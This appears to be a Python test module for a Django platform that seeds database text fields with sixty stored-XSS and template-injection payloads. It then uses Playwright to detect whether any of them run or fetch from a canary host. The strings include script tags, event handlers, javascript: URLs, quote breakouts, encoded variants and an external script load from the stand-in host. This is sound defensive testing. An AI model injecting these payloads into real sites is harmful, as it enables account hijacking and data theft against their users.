"""Sixty texts that somebody could type in the hope that a browser runs them, and how one sees that it did.

Each would, if it ran, set `window.__xss`, open a dialog, ask HOST for something, or put an element that carries MARK.
"""

from collections.abc import Iterable

from django.db import models
from playwright.sync_api import Dialog, Error, Page, Request

from common.erasing import rewrite_past
from common.models import AccessRecord
from common.records import BytewiseField

HOST = "canari.exemple.org"
MARK = "data-zq"
RUN = "window.__xss=1"

STRINGS = (
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC=//{HOST}/a.js></SCRIPT>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script/x>{RUN}</script>",
    f"<<script>{RUN}//<</script>",
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</option></select><img {MARK} src=x onerror={RUN}>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"<img {MARK} src=x onerror={RUN}>",
    f"<img {MARK} src=x onerror='{RUN}'>",
    f'<img {MARK} src="x" onerror="{RUN}">',
    f"<img/{MARK}/src=x/onerror={RUN}>",
    f"<img {MARK} src=//{HOST}/a.png>",
    f"<img {MARK} srcset='//{HOST}/a.png 1x'>",
    f"<svg {MARK} onload={RUN}>",
    f"<svg/{MARK}><script>{RUN}</script></svg>",
    f"<svg {MARK}><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg {MARK}><use href=//{HOST}/a.svg#x /></svg>",
    f"<svg {MARK}><style><img src=x onerror={RUN}></style></svg>",
    f"<math {MARK}><mi xlink:href='javascript:{RUN}'>x</mi></math>",
    f"<body {MARK} onload={RUN}>",
    f"<iframe {MARK} src=javascript:{RUN}></iframe>",
    f"<iframe {MARK} srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe {MARK} src=//{HOST}/></iframe>",
    f"<object {MARK} data=javascript:{RUN}></object>",
    f"<embed {MARK} src=//{HOST}/a.swf>",
    f"<link {MARK} rel=stylesheet href=//{HOST}/a.css>",
    f"<style {MARK}>@import '//{HOST}/a.css';</style>",
    f"<style {MARK}>*{{background:url(//{HOST}/a.png)}}</style>",
    f"<base {MARK} href=//{HOST}/>",
    f"<meta {MARK} http-equiv=refresh content='0;url=//{HOST}/'>",
    f"<form {MARK} action=//{HOST}/><input type=submit autofocus></form>",
    f"<input {MARK} autofocus onfocus={RUN}>",
    f"<details {MARK} open ontoggle={RUN}>",
    f"<video {MARK}><source onerror={RUN}></video>",
    f"<audio {MARK} src=x onerror={RUN}>",
    f"<marquee {MARK} onstart={RUN}>",
    f"<a {MARK} href=javascript:{RUN}>x</a>",
    f"<a {MARK} href='&#106;avascript:{RUN}'>x</a>",
    f"<div {MARK} style=background:url(//{HOST}/a.png)>",
    f'" autofocus onfocus="{RUN}" {MARK}="',
    f"' autofocus onfocus='{RUN}' {MARK}='",
    f"x onmouseover={RUN} {MARK}=1",
    f'"><img {MARK} src=x onerror={RUN}>',
    f"'><svg {MARK} onload={RUN}>",
    f"`onload={RUN} {MARK}`",
    f'\\"><script>{RUN}</script>',
    f'{{"x":"</script><script>{RUN}</script>"}}',
    "{{ 7|add:7 }}{% debug %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"<noscript><p title='</noscript><img {MARK} src=x onerror={RUN}>'>",
    f"\u202e<b {MARK}>\u202c\u200b<i>",
)

LEFT = {
    "password",
    "search_key",
    "ref",
    "digest",
    "token_digest",
    "session_key",
    "cache_key",
    "state",
    "request_id",
}
"""What nobody types, and what the platform compares."""


def typed(model: type[models.Model]) -> list[models.Field]:
    """The fields of a model in which somebody writes what they like; none of a log that nobody changes."""
    if model is AccessRecord:
        return []
    return [
        field
        for field in model._meta.concrete_fields
        if isinstance(field, models.CharField | models.TextField)
        and not (field.choices or field.unique or field.primary_key or isinstance(field, BytewiseField))
        and field.name not in LEFT
    ]


def plant(records: Iterable[models.Model]) -> tuple[set[str], set[str]]:
    """Write a string in each text of each record and of its past, whatever a form would have refused.

    The strings that fitted, and the fields that hold one.
    """
    waiting, told, fields = list(STRINGS), set(), set()
    for record in records:
        values = {}
        for field in typed(type(record)):
            room = field.max_length or 500
            string = next((text for text in [*waiting, *STRINGS] if len(text) <= room), STRINGS[0])
            values[field.name] = string[:room]
            fields.add(f"{record._meta.label}.{field.name}")
            told.add(string)
            waiting = [text for text in waiting if text != string] or list(STRINGS)
        if values:
            type(record)._base_manager.filter(pk=record.pk).update(**values)
            rewrite_past(type(record), [record.pk], values)
    return told, fields


class Harm:
    """What a page would show if one of the strings had been taken for code."""

    def __init__(self, page: Page):
        self.page, self.done = page, []
        page.on("dialog", self.dialog)
        page.on("request", self.request)

    def dialog(self, dialog: Dialog) -> None:
        self.done.append(f"{self.page.url}: a dialog, {dialog.message}")
        dialog.dismiss()

    def request(self, request: Request) -> None:
        if HOST in request.url:
            self.done.append(f"{self.page.url}: asked for {request.url}")

    def look(self) -> None:
        try:
            ran, put = self.page.evaluate(
                f"[window.__xss !== undefined, document.querySelectorAll('[{MARK}]').length]"
            )
        except Error:  # the page has led elsewhere by itself
            self.done.append(f"{self.page.url}: gone elsewhere")
            return
        if ran or put:
            self.done.append(f"{self.page.url}: {'a script ran, ' if ran else ''}{put} elements")
